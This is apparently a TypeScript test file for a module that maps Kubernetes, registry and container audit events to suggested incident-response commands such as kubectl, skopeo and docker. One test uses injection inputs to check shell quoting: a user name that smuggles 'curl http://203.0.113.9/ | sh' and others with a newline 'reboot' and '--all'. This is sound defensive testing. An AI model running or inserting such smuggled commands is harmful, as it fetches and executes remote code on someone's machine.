import { MEASURES, measuresFor } from './measures';

const TIME = Date.UTC(2026, 10, 25, 9, 30);

const advice = (labels: Record<string, string>) => measuresFor({ time: TIME, body: '', labels });
const ids = (labels: Record<string, string>) => advice(labels).map(({ id }) => id);
const commands = (labels: Record<string, string>, id: string) => advice(labels).find((one) => one.id === id)?.commands;

const exec = {
  object: 'kubernetes-audit',
  access: 'exec',
  actor: 'human',
  severity: 'medium',
  event_action: 'exec',
  event_outcome: 'success',
  user_name: 'alice',
  k8s_namespace_name: 'shop',
  k8s_pod_name: 'web-1',
  k8s_container_name: 'web',
  k8s_object_resource: 'pods',
  k8s_object_subresource: 'exec',
  k8s_authorization_decision: 'allow',
  k8s_authorization_reason: 'RBAC: allowed by RoleBinding "alice-pods/shop" of Role "podman" to User "alice"',
};

const push = {
  object: 'image-registry',
  access: 'write',
  severity: 'low',
  event_action: 'tag-move',
  event_outcome: 'success',
  user_name: 'mallory',
  registry_name: 'registry.example.com',
  container_image_repository: 'shop/web',
  container_image_tag: '1.4',
  oci_manifest_digest: 'sha256:bb',
  oci_manifest_previous_digest: 'sha256:aa',
};

const dockerExec = {
  object: 'container-command',
  access: 'exec',
  severity: 'medium',
  event_action: 'exec',
  event_outcome: 'success',
  container_runtime_name: 'docker',
  container_name: 'pay',
};

test('each measure has a name of its own', () => {
  expect(new Set(MEASURES.map(({ id }) => id)).size).toBe(MEASURES.length);
});

describe('a command in a pod', () => {
  it('is answered by keeping, changing secrets, replacing, and closing the way in', () => {
    expect(ids(exec)).toEqual(['keep', 'pod-secrets', 'replace', 'rights', 'grant', 'alert']);
    expect(commands(exec, 'keep')).toEqual([
      'kubectl get pod --namespace=shop web-1 --output=yaml',
      'kubectl logs --namespace=shop web-1 --all-containers --timestamps --since-time=2026-11-25T09:30:00.000Z',
    ]);
    expect(commands(exec, 'rights')).toEqual(['kubectl auth can-i --list --namespace=shop --as=alice']);
    expect(commands(exec, 'grant')).toEqual([
      'kubectl describe role --namespace=shop podman',
      'kubectl edit rolebinding --namespace=shop alice-pods',
    ]);
  });

  it('names the rights of who was acted as', () => {
    expect(commands({ ...exec, user_effective_name: 'bob' }, 'rights')).toEqual([
      'kubectl auth can-i --list --namespace=shop --as=bob',
    ]);
    expect(commands({ ...exec, user_effective_name: 'bob' }, 'impersonation')).toContain(
      'kubectl auth can-i impersonate users --as=alice'
    );
  });

  it('that was refused leaves nothing to clean up', () => {
    expect(ids({ ...exec, event_outcome: 'failure', k8s_authorization_decision: 'forbid' })).toEqual([
      'denied',
      'alert',
    ]);
  });

  it('by a service account asks for its token', () => {
    const values = { ...exec, user_name: 'system:serviceaccount:ci:deployer' };
    expect(commands(values, 'service-account')?.[0]).toBe(
      'kubectl get pods --namespace=ci --field-selector=spec.serviceAccountName=deployer'
    );
  });

  it('never takes rights from parts of the cluster', () => {
    expect(ids({ ...exec, user_name: 'system:kube-controller-manager' })).not.toContain('rights');
  });

  it('keeps a value that is meant to run on the reader’s machine in its quotes, or out', () => {
    const user = "x'; curl http://203.0.113.9/ | sh; '";
    expect(commands({ ...exec, user_name: user }, 'rights')).toEqual([
      String.raw`kubectl auth can-i --list --namespace=shop --as='x'\''; curl http://203.0.113.9/ | sh; '\'''`,
    ]);
    expect(commands({ ...exec, user_name: 'x\nreboot' }, 'rights')).toEqual([]);
    expect(commands({ ...exec, k8s_pod_name: '--all' }, 'replace')).toEqual([]);
  });
});

test('a secret that was read has to be changed', () => {
  const read = {
    ...{ object: 'kubernetes-audit', access: 'read', actor: 'human', severity: 'medium', event_action: 'get' },
    ...{ event_outcome: 'success', user_name: 'bob', k8s_namespace_name: 'shop', k8s_object_resource: 'secrets' },
  };
  expect(commands({ ...read, k8s_object_name: 'db' }, 'secret')).toEqual(['kubectl edit secret --namespace=shop db']);
  expect(commands(read, 'secret')).toEqual(['kubectl get secrets --namespace=shop']);
  expect(ids({ ...read, event_outcome: 'failure', k8s_authorization_decision: 'forbid' })).not.toContain('secret');
  expect(ids({ ...read, user_name: 'system:kube-controller-manager' })).not.toContain('secret');
});

test('what was granted is looked at, and undone by its opposite', () => {
  const grant = {
    ...{ object: 'kubernetes-audit', access: 'write', severity: 'medium', event_outcome: 'success' },
    ...{ k8s_object_resource: 'clusterrolebindings', k8s_object_name: 'oops', user_name: 'admin' },
  };
  expect(commands({ ...grant, event_action: 'create' }, 'rbac-change')).toEqual([
    'kubectl get clusterrolebindings oops --output=yaml',
    'kubectl delete clusterrolebindings oops',
  ]);
  expect(commands({ ...grant, event_action: 'patch' }, 'rbac-change')?.[1]).toBe(
    'kubectl edit clusterrolebindings oops'
  );
  expect(commands({ ...grant, event_action: 'delete' }, 'rbac-change')).toEqual([]);
});

test('a pod that can reach its node is deleted, and the next one refused', () => {
  const create = {
    ...{ object: 'kubernetes-audit', access: 'write', severity: 'high', event_action: 'create', user_name: 'admin' },
    ...{ event_outcome: 'success', k8s_namespace_name: 'ops', k8s_pod_name: 'priv', k8s_object_resource: 'pods' },
  };
  expect(commands(create, 'privileged')).toEqual([
    'kubectl delete pod --namespace=ops priv',
    'kubectl label --dry-run=server --overwrite namespace ops pod-security.kubernetes.io/enforce=baseline',
    'kubectl label --overwrite namespace ops pod-security.kubernetes.io/enforce=baseline',
  ]);
  expect(ids({ ...create, severity: 'info' })).not.toContain('privileged');
});

test('a tag that was moved can be given back', () => {
  expect(commands(push, 'restore-tag')).toEqual([
    'skopeo copy --all docker://registry.example.com/shop/web@sha256:aa docker://registry.example.com/shop/web:1.4',
  ]);
  expect(ids(push)).toEqual(['inspect-image', 'restore-tag', 'pin-digest', 'push-rights']);
  const { oci_manifest_previous_digest: _, ...first } = push;
  expect(ids(first)).not.toContain('restore-tag');
});

test('a container that was killed for memory is looked into before its limit is raised', () => {
  const oom = {
    ...{ object: 'container-lifecycle', severity: 'low', event_action: 'oom', k8s_namespace_name: 'shop' },
    ...{ k8s_pod_name: 'web-1', k8s_container_name: 'web', k8s_workload_kind: 'Deployment', k8s_workload_name: 'web' },
  };
  expect(ids(oom)).toEqual(['previous-log', 'memory', 'roll-back']);
  expect(commands(oom, 'roll-back')).toEqual([
    'kubectl rollout history --namespace=shop deployment web',
    'kubectl rollout undo --namespace=shop deployment web',
  ]);
});

test('for a command in a container of an engine its host is asked', () => {
  expect(ids(dockerExec)).toEqual(['engine-keep', 'engine-replace', 'engine-who', 'alert']);
  expect(commands(dockerExec, 'engine-keep')).toEqual([
    'docker diff pay',
    'docker logs --timestamps --since 2026-11-25T09:30:00.000Z pay',
    'docker commit pay',
  ]);
  expect(commands({ ...dockerExec, container_runtime_name: 'podman' }, 'engine-who')).toEqual(['last -F']);
});

test('nothing is to be done about what asks for no attention', () => {
  expect(ids({ object: 'kubernetes-audit', access: 'read', severity: 'info', event_action: 'get' })).toEqual([]);
  expect(ids({})).toEqual([]);
});
